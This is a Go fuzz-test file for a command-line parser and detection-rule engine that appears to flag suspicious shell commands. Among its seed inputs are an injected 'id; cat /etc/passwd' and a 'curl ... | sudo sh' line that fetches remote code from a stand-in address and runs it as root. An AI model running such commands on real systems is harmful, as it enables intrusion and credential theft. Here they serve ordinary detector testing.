package cmdline_test

import (
	"bytes"
	"errors"
	"os"
	"path/filepath"
	"strings"
	"testing"
	"time"

	"github.com/tuxtrail/tuxtrail/cmdline"
)

// check holds what is true of every Command, whatever the text was.
func check(t *testing.T, c cmdline.Command) {
	t.Helper()
	if len(c.Calls) > cmdline.MaxCalls || len(c.Layers) > 256 || len(c.Text) > 2*cmdline.MaxText+64 {
		t.Fatalf("limits: %d calls, %d layers, %d bytes", len(c.Calls), len(c.Layers), len(c.Text))
	}
	size := 0
	for i := range c.Calls {
		k := &c.Calls[i]
		if k.Layer < 0 || k.Layer > len(c.Layers) {
			t.Fatalf("call %d is in layer %d of %d", i, k.Layer, len(c.Layers))
		}
		if len(k.Via) > 2*cmdline.MaxDepth {
			t.Fatalf("call %d is %d wrappers deep", i, len(k.Via))
		}
		for _, a := range k.Argv {
			size += len(a)
		}
		for _, j := range c.Downstream(i) {
			if j == i {
				t.Fatalf("call %d reads itself", i)
			}
		}
	}
	if size > 4*cmdline.MaxWork {
		t.Fatalf("arguments of %d bytes", size)
	}
	for _, f := range c.Facts {
		if f.Call < 0 || f.Call >= len(c.Calls) || f.Value == "" {
			t.Fatalf("fact %+v", f)
		}
	}
	for _, l := range c.Layers {
		if len(l.Steps) == 0 || len(l.Text) > cmdline.MaxValue {
			t.Fatalf("layer of %d bytes and %d steps", len(l.Text), len(l.Steps))
		}
		for _, s := range l.Steps {
			if s.How == "" || len(s.In) > cmdline.MaxStepText || len(s.Out) > cmdline.MaxStepText {
				t.Fatalf("step %q", s.How)
			}
		}
	}
	for _, h := range cmdline.DefaultRules().Match(c) {
		if h.Rule == "" || h.Severity < cmdline.Info || h.Severity > cmdline.Critical || h.Call < 0 || h.Call >= len(c.Calls) {
			t.Fatalf("hit %+v", h)
		}
	}
}

func FuzzParse(f *testing.F) {
	for r := range cmdline.DefaultRules().All() {
		for _, s := range r.Hits {
			f.Add(s)
		}
		for _, s := range r.Quiet {
			f.Add(s)
		}
	}
	f.Fuzz(func(t *testing.T, s string) {
		start := time.Now()
		c := cmdline.Parse(s)
		check(t, c)
		check(t, cmdline.FromSudo(s))
		check(t, cmdline.FromCron(s))
		argv := strings.Split(s, " ")
		a := cmdline.FromArgv(argv)
		check(t, a)
		if len(a.Calls) > 0 && len(a.Calls[0].Argv) != len(argv) && !a.Limited {
			t.Fatalf("%d arguments of %d", len(a.Calls[0].Argv), len(argv))
		}
		if d := time.Since(start); d > 1*time.Second {
			t.Fatalf("took %v", d)
		}
	})
}

// FuzzDecode wraps any bytes in encodings and asks for them back.
func FuzzDecode(f *testing.F) {
	f.Add("id; cat /etc/passwd")
	f.Add("echo \x00\xff")
	f.Add("é世界\n")
	f.Fuzz(func(t *testing.T, s string) {
		readable := strings.IndexFunc(s, func(r rune) bool { return r > ' ' && r != 0x7f }) >= 0
		if len(strings.TrimSpace(s)) < 4 || len(s) > 1000 || !readable {
			return
		}
		for name, wrap := range encoders {
			c := cmdline.Parse(wrap(s))
			found := false
			for _, l := range c.Layers {
				found = found || strings.TrimSuffix(l.Text, "\n") == strings.TrimSuffix(s, "\n")
			}
			if !found {
				t.Fatalf("%s: %q is not in the layers of %q: %+v", name, s, wrap(s), c.Layers)
			}
		}
	})
}

func FuzzLoadRules(f *testing.F) {
	names, _ := filepath.Glob("rules/*.yaml")
	for _, n := range names {
		b, err := os.ReadFile(n)
		if err != nil {
			f.Fatal(err)
		}
		f.Add(b[:min(len(b), 3000)])
	}
	f.Add([]byte(`{"Syslog": [".*squid.*"]}`))
	f.Add([]byte(`{"rules": [{"id": "a", "severity": "low", "when": [{"program": ["id"]}]}]}`))
	f.Add([]byte("rules:\n  - id: x\n    severity: low\n    when: [{text: '('}]\n"))
	cmd := cmdline.Parse("curl http://192.0.2.1/x | sudo sh -c 'id > /tmp/x'")
	f.Fuzz(func(t *testing.T, data []byte) {
		r, err := cmdline.LoadRules("f", bytes.NewReader(data))
		if err != nil {
			var re *cmdline.RuleError
			if !errors.As(err, &re) || re.File != "f" || re.Line < 0 || re.Line > bytes.Count(data, []byte("\n"))+bytes.Count(data, []byte("\r"))+2 {
				t.Fatalf("error %#v", err)
			}
			return
		}
		r.Match(cmd)
	})
}
